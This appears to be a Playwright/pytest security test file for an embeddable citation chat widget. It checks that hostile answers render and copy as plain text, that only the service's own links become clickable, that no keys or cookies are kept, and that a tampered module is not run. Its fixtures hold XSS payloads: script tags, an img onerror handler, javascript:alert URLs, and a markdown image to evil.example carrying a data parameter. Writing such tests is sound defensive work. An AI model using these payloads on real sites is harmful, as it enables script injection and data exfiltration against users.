"""Hostile text stays text, on another site's page with a strict policy, and nothing else is ever asked for.

Every test here also fails, by the fixture `watch`, where a page asks for another address or breaks its policy.
"""

from __future__ import annotations

import pytest
from chat_page import Chat
from scripted_service import answer, citation, nearest, understood

MARKUP = "<img src=https://evil.example/x onerror=alert(1)><script>alert(2)</script>"
MARKDOWN = "![x](https://evil.example/y?q=data) [click](https://evil.example) <https://evil.example>"
HOSTILE = f"{MARKUP} {MARKDOWN} \u202eevil\u202c {'x' * 300}"


def hostile_answer() -> dict:
    report = {
        "id": HOSTILE, "title": HOSTILE, "subject": HOSTILE, "publisher": HOSTILE, "published": "not a date",
        "source_url": "javascript:alert(3)", "licence": HOSTILE, "file": HOSTILE,
    }  # fmt: skip
    section = {"id": "s", "path": [HOSTILE], "score": None, "judgement": HOSTILE}
    cited = citation(
        1, report=report, section=section, label=HOSTILE, text=HOSTILE, quote=HOSTILE[:40], start=0, end=40,
        url="//evil.example/", marked_url="https://evil.example/", source_fragment_url="javascript:alert(4)",
    )  # fmt: skip
    near = nearest(
        1, report=HOSTILE, subject=HOSTILE, publisher=HOSTILE, section=[HOSTILE], judgement=HOSTILE, label=HOSTILE,
        text=HOSTILE, quote=HOSTILE[:40], start=0, end=40, url="javascript:alert(5)", marked_url="javascript:alert(6)",
        source_url="javascript:alert(7)", source_fragment_url="javascript:alert(8)",
    )  # fmt: skip
    understood_of = understood(
        subjects=[HOSTILE], missing=[HOSTILE], sections=[HOSTILE], scores={HOSTILE: HOSTILE}, when=HOSTILE,
        speakers=[HOSTILE], carried={"from": HOSTILE}, unread=[HOSTILE],
        corrections=[{"written": HOSTILE, "meant": HOSTILE}],
    )  # fmt: skip
    rating = {
        "subject": HOSTILE,
        "report": "r",
        "section": HOSTILE,
        "score": 3,
        "judgement": HOSTILE,
        "percent": None,
        "citation": 1,
    }
    return answer(
        HOSTILE, citations=[cited, citation(2)], groups=[{"label": HOSTILE, "claims": [0], "note": HOSTILE}],
        understood=understood_of, notes=[HOSTILE], choices=[HOSTILE], nearest=[near], ratings=[rating, rating], attribution=HOSTILE,
        standalone_question=HOSTILE, provenance={"generation": "g", "answerer": "generative", "model": HOSTILE},
    )  # fmt: skip


@pytest.fixture
def chat(page, scripted) -> Chat:
    scripted.answers = lambda reply, asked: reply.json(hostile_answer())
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    return Chat(page, scripted.url)


def test_hostile_text_is_shown_as_text(chat):
    chat.ask(HOSTILE[:1500])
    assert MARKUP in chat.last.locator(".question").inner_text()
    assert MARKUP in chat.last.inner_text()
    root = "document.querySelector('citewise-chat').shadowRoot"
    assert chat.page.evaluate(f"{root}.querySelectorAll('img, script, iframe, svg, object').length") == 0
    chat.page.wait_for_timeout(200)


def test_only_addresses_of_the_service_and_of_the_web_become_links(chat, scripted):
    chat.ask("What?")
    for mark in chat.last.locator(".mark, summary").all():
        mark.click()
    links = chat.last.locator("a[href]")
    found = {links.nth(n).get_attribute("href") for n in range(links.count())}
    assert found <= {f"{scripted.url}/reports/r?mark=s.2:11-35#s.2"}
    assert all("evil" not in href for href in found)


def test_hostile_text_is_copied_as_text(chat):
    chat.ask("What?")
    chat.last.get_by_role("button", name="Copy all as footnotes").click()
    copied = chat.clipboard("text/html")
    assert "<img" not in copied
    assert "<script" not in copied
    assert MARKUP in chat.clipboard("text/plain")


def test_links_open_beside_the_page_and_tell_nothing_of_it(chat, scripted):
    scripted.answers = lambda reply, asked: reply.json(answer("Carers waited six weeks."))
    chat.ask("What?")
    mark = chat.last.locator("a.mark")
    assert (mark.get_attribute("target"), mark.get_attribute("rel")) == ("_blank", "noopener noreferrer")


def test_no_key_and_no_cookie_is_kept(chat, scripted, context):
    with chat.page.expect_request("**/v1/ask") as sent:
        chat.ask("What?")
    assert not {"authorization", "x-api-key"} & sent.value.all_headers().keys()
    assert context.cookies() == []
    assert chat.page.evaluate("localStorage.length + sessionStorage.length") == 0


def test_a_page_of_an_origin_that_is_not_listed_reads_no_answer(page, scripted, service):
    scripted.target = service.url
    chat = Chat(page, scripted.url)
    turn = chat.ask("How long do unpaid carers wait for an assessment in Brackenshire?")
    assert "cannot be reached" in turn.inner_text()
    assert chat.claims() == []


def test_a_changed_module_is_not_run(page, scripted):
    scripted.integrity = "sha384-" + "A" * 64
    page.goto(scripted.url)
    page.wait_for_timeout(300)
    assert page.evaluate("customElements.get('citewise-chat') === undefined")
